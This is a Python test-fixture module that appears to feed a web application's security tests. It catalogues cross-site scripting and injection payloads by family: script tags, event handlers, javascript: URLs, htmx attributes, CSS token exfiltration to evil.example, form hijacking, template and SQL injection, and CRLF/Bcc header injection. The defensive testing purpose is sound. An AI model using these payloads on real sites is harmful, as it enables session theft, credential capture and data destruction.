"""Texts that people with bad intentions would type, by family. Each calls `__hit` if a browser ever runs it."""

from collections.abc import Iterator

HIT = "__hit()"
QUOTED = f'"><script>{HIT}</script>'

SCRIPTS = (
    f"<script>{HIT}</script>",
    f"<SCRIPT>{HIT}</SCRIPT>",
    f"<ScRiPt >{HIT}</sCrIpT >",
    f"<script\n>{HIT}</script\n>",
    f"<script\t/x>{HIT}</script>",
    f"<script/src=data:text/javascript,{HIT}></script>",
    f"<<script>{HIT}//<</script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"</script><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</option></select><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"-->{QUOTED}",
    f"]]>{QUOTED}",
    f"'{QUOTED}",
    QUOTED,
    f"<script type=module>{HIT}</script>",
    f"<script nonce=x>{HIT}</script>",
    f"<script src=//evil.example/x.js></script>{QUOTED}",
    f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;",
    f"&#x3c;script&#x3e;{HIT}&#x3c;/script&#x3e;",
    f"%3Cscript%3E{HIT}%3C/script%3E",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
)
HANDLERS = (
    f"<img src=x onerror={HIT}>",
    f"<img src=x onerror\n=\n{HIT}>",
    f"<img/src=x/onerror={HIT}//",
    f'<img src="x` `<script>{HIT}</script>"` `>',
    f'<IMG """><img src=x onerror="{HIT}">',
    f"<body onload={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}><option>x</select>",
    f"<textarea autofocus onfocus={HIT}>x</textarea>",
    f"<details open ontoggle={HIT}><summary>x</summary></details>",
    f"<video src=x onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}></audio>",
    f"<video><source onerror={HIT}></video>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<p onpointerenter={HIT} onmouseover={HIT}>x</p>",
    f"<a href=# onclick={HIT}>x</a>",
    f"<button onclick={HIT}>x</button>",
    f'" onmouseover="{HIT}" x="',
    f"' onmouseover='{HIT}' x='",
    f'" autofocus onfocus="{HIT}',
    f"` onmouseover={HIT} `",
    f"x onmouseover={HIT}",
    f"<div onanimationstart={HIT} class=htmx-added>x</div>",
    f"<p contenteditable onbeforeinput={HIT}>x</p>",
    f"<object onerror={HIT} data=x></object>",
    f"<link rel=stylesheet href=x onerror={HIT}>",
    f"<dialog open onclose={HIT}><form method=dialog><button>x",
    f"<div popover id=p onbeforetoggle={HIT}>x</div><button popovertarget=p>x</button>",
)
ADDRESSES = (
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f"<a href=javascript:{HIT}>x</a>",
    f"<a href='java&#115;cript:{HIT}'>x</a>",
    f"<a href='java&Tab;script:{HIT}'>x</a>",
    f"<a href='java&NewLine;script:{HIT}'>x</a>",
    f"<a href='java\nscript:{HIT}'>x</a>",
    f"<a href='java\tscript:{HIT}'>x</a>",
    f"<a href='\x01javascript:{HIT}'>x</a>",
    f"<a href='&#14;javascript:{HIT}'>x</a>",
    f"<a href='javascript&colon;{HIT}'>x</a>",
    f"<a href='javascript&#58;{HIT}'>x</a>",
    f"<a href='vbscript:{HIT}'>x</a>",
    f"<a href='data:text/html,<script>{HIT}</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+'>x</a>",
    f"data:text/html,<script>{HIT}</script>",
    f"<iframe src=javascript:{HIT}></iframe>",
    f"<embed src=javascript:{HIT}>",
    f"<object data=javascript:{HIT}></object>",
    f"<form action=javascript:{HIT}><button>x</button></form>",
    f"<button formaction=javascript:{HIT}>x</button>",
    f"<img src=javascript:{HIT}>",
    f"<a href='view-source:javascript:{HIT}'>x</a>",
    "<a href=//evil.example/>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a ping=//evil.example/ href=/>x</a>",
)
HTMX = (
    "<div hx-get=/account/data/file/ hx-trigger=load>x</div>",
    "<div data-hx-get=/account/data/file/ data-hx-trigger=load>x</div>",
    "<div hx-post=/account/data/erasure/ hx-trigger='every 1s'>x</div>",
    f"<div hx-on:click={HIT}>x</div>",
    f"<div hx-on::load='{HIT}'>x</div>",
    f"<div data-hx-on-htmx-load='{HIT}'>x</div>",
    f"<div hx-vals='js:{{x:{HIT}}}' hx-get=/ hx-trigger=load>x</div>",
    f"<div hx-headers='javascript:{{x:{HIT}}}' hx-get=/ hx-trigger=load>x</div>",
    "<div hx-target=body hx-swap=outerHTML hx-get=//evil.example/ hx-trigger=load>x</div>",
    "<div hx-swap-oob=true id=main>x</div>",
    "<div hx-boost=true><a href=//evil.example/>x</a></div>",
    "<div hx-ext=x hx-history-elt hx-preserve>x</div>",
    f"<div hx-trigger='load[{HIT}]' hx-get=/>x</div>",
    f"<meta name=htmx-config content='{{\"allowEval\":true}}'>{QUOTED}",
    '" hx-get="/account/data/file/" hx-trigger="load" x="',
    f'" hx-on:load="{HIT}" x="',
)
STYLES = (
    "<style>*{background:url(//evil.example/)}</style>",
    f"<style>@import 'javascript:{HIT}';</style>",
    f"<style>*{{color:expression({HIT})}}</style>",
    f"<p style='background:url(javascript:{HIT})'>x</p>",
    f"<p style=width:expression({HIT})>x</p>",
    f"<p style='-moz-binding:url(//evil.example/#x)' onclick={HIT}>x</p>",
    '" style="position:fixed;inset:0;z-index:9999',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>[name=csrfmiddlewaretoken][value^=a]{background:url(//evil.example/a)}</style>",
    f"<p style=animation-name:x onanimationend={HIT}>x</p>",
)
STRUCTURE = (
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=password></form>",
    "</form><form action=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
    "<meta http-equiv=Set-Cookie content='session=x'>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<iframe onload={HIT}></iframe>",
    f"<frameset onload={HIT}>",
    "<object data=//evil.example/x.swf></object>",
    f"<embed src=//evil.example/ onload={HIT}>",
    f"<applet onerror={HIT}>x</applet>",
    "</main></body></html><h1>x</h1>",
    "<!--",
    "<plaintext>",
    "<xmp><noscript>",
    "<table><tr><td></table></div></div></div>",
    "<input type=hidden name=csrfmiddlewaretoken value=x>",
    "<button type=submit form=x formaction=//evil.example/>x</button>",
    f"<portal src=javascript:{HIT}>",
    "<link rel=manifest href=//evil.example/><link rel=preload as=script href=//evil.example/>",
)
DRAWINGS = (
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><script href=data:,{HIT} /></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
    f"<svg><a><set attributeName=href to=javascript:{HIT} /><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={HIT}/>#x'/></svg>",
    f"<svg><foreignObject><body onload={HIT}></foreignObject></svg>",
    f"</title></svg><script>{HIT}</script>",
    f"</text></svg><img src=x onerror={HIT}>",
    f"<svg><style><img src=x onerror={HIT}></style></svg>",
    f"<svg><desc><img src=x onerror={HIT}></desc></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>",
    f"<math href=javascript:{HIT}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{HIT}>x",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={HIT}>",
    f"<svg><image href=x onerror={HIT} /></svg>",
)
MUTATIONS = (
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={HIT}>'>",
    f"<math><mi><style><!--</style><img title='--&gt;&lt;img src=x onerror={HIT}&gt;'>",
    f"<listing>&lt;img src=x onerror={HIT}&gt;</listing>",
    f"<template><script>{HIT}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={HIT}></template>",
    f"<slot name=x onslotchange={HIT}>x</slot>",
    f"<!--><img src=x onerror={HIT}>-->",
    f"<!--x--!><img src=x onerror={HIT}>-->",
    f"<![CDATA[><img src=x onerror={HIT}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={HIT}>",
    f"<!DOCTYPE x [<!ENTITY y '{HIT}'>]><p>&y;</p>",
    f"<p id='\u2028' title='\u2029'><img src=x onerror={HIT}>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={HIT} src>'>",
    f"<select><template><script>{HIT}</script></template></select>",
    f"&lt;img src=x onerror={HIT}&gt;",
    f"&amp;lt;img src=x onerror={HIT}&amp;gt;",
    f"<textarea></textarea><img src=x onerror={HIT}>",
)
CLOBBERING = (
    "<img name=htmx><img id=htmx>",
    "<form id=document><input name=body></form>",
    "<a id=__hit></a><a id=__hit name=x href=//evil.example/></a>",
    "<img name=getElementById><img name=querySelector>",
    "<input form=x name=attributes><input form=x name=submit>",
    "<iframe name=htmx srcdoc='<a id=config>'></iframe>",
    "<a id=main></a><p id=messages>x</p>",
    "__proto__",
    "constructor",
    "constructor[prototype][x]=1",
    '{"__proto__":{"x":1}}',
)
LANGUAGES = (
    "{{7*7}}{{ 7|add:7 }}",
    "{% load static %}{% static 'x' %}",
    "{% include 'base.html' %}{% debug %}",
    "{{ settings.SECRET_KEY }}{{ request.user.password }}",
    "{# x #}{% comment %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(name)s %s %d %n",
    "{name} {0} {0.__class__.__mro__}",
    "%{IFS}$(id)`id`",
    "' OR 1=1; DROP TABLE x; --",
    '=HYPERLINK("//evil.example/")',
    f"\\');{HIT}//",
    f"';{HIT};'",
    f"${{{HIT}}}",
)
MARKDOWN = (
    f"[x](javascript:{HIT})",
    f"[x](JAVASCRIPT:{HIT})",
    f"[x](java&#115;cript:{HIT})",
    f"[x](<java\tscript:{HIT}>)",
    f"[x]( javascript:{HIT} 'x')",
    f"[x](data:text/html,<script>{HIT}</script>)",
    f"[x]: javascript:{HIT}\n[x]",
    f"![x](javascript:{HIT})",
    "![x](//evil.example/x.png)",
    f'![x](x"onerror="{HIT})',
    f'[x](https://example.org/"onmouseover="{HIT})',
    f"[x](https://example.org/ '\"onmouseover={HIT}')",
    f"<javascript:{HIT}>",
    '<https://example.org/"onmouseover=x>',
    f"```html\n<script>{HIT}</script>\n```",
    f"`<script>{HIT}</script>`",
    f"**<img src=x onerror={HIT}>**",
    f"# <script>{HIT}</script>",
    f"> <script>{HIT}</script>",
    f"| <script>{HIT}</script> |\n| --- |\n| x |",
    "[x](file:///etc/passwd) [x](vbscript:x)",
    f"<div>\n\n<script>{HIT}</script>\n\n</div>",
)
LETTERS = (
    f"\u202e<script>{HIT}</script>\u202c",
    f"\u2066\u2067{QUOTED}\u2069",
    f"\ufeff<script>{HIT}</script>",
    f"\u200b<scr\u200bipt>{HIT}</scr\u200bipt>",
    f"\x0b<img\x0bsrc=x\x0bonerror={HIT}>",
    f"\x0c<img\x0csrc=x\x0conerror={HIT}>",
    f"\x01\x02\x1f\x7f\x80\x9f<script>{HIT}</script>",
    f"\x1b]8;;//evil.example/\x07x\x1b]8;;\x07{QUOTED}",
    f"\ufffe\uffff\ufdd0<script>{HIT}</script>",
    f"e{chr(0x301) * 40}<script>{HIT}</script>",
    f"\u0130\u0131\u00df\u017f<\u017fcript>{HIT}</\u017fcript>",
    f"\U0001f468\u200d\U0001f469\u200d\U0001f467{QUOTED}",
    f"\u2028{HIT}\u2029{HIT}",
    f"\u00bcscript\u00be{HIT}\u00bc/script\u00be",
)
LINES = (
    "x\r\nBcc: evil@evil.example",
    "x\nBcc: evil@evil.example\n\n<h1>x</h1>",
    "x\rBcc: evil@evil.example",
    f"x\r\nContent-Type: text/html\r\n\r\n<script>{HIT}</script>",
    "x\r\nSet-Cookie: session=x",
    "x%0d%0aSet-Cookie:session=x",
    "x\u0085Bcc: evil@evil.example",
    "x\u2028Bcc: evil@evil.example",
    "=?utf-8?q?x=0d=0aBcc:evil=40evil.example?=",
    'x"; filename="evil.html',
    "x\r\n.\r\nMAIL FROM:<evil@evil.example>",
)
FAMILIES = {
    "script tags": SCRIPTS,
    "event handlers": HANDLERS,
    "addresses that run": ADDRESSES,
    "htmx": HTMX,
    "styles": STYLES,
    "structure of the page": STRUCTURE,
    "SVG and MathML": DRAWINGS,
    "what a parser changes": MUTATIONS,
    "names that scripts use": CLOBBERING,
    "other languages": LANGUAGES,
    "Markdown": MARKDOWN,
    "odd letters": LETTERS,
    "header lines": LINES,
}
TEXTS = tuple(text for family in FAMILIES.values() for text in family)
LONGEST = 118


def packed(texts: tuple[str, ...], room: int) -> list[str]:
    """Join texts so that each joined one fits in `room` letters and every text stands in one of them."""
    packs: list[str] = []
    for text in texts:
        if packs and len(packs[-1]) + 1 + len(text) <= room:
            packs[-1] += f" {text}"
        else:
            packs.append(text)
    return packs


def harmless(texts: tuple[str, ...]) -> tuple[str, ...]:
    """Give as many texts of letters only, each as long and with its spaces in the same places."""
    return tuple(_plain(text, number) for number, text in enumerate(texts))


def _plain(text: str, number: int) -> str:
    name = "".join("abcdefghij"[int(figure)] for figure in f"{number:03d}")
    return "".join(
        letter if letter.isspace() else name[place % 3]
        for place, letter in enumerate(text.replace("\r", " "))
    )


def too_long() -> Iterator[str]:
    """Yield the texts that do not fit in the shortest field."""
    yield from (text for text in TEXTS if len(text) > LONGEST)
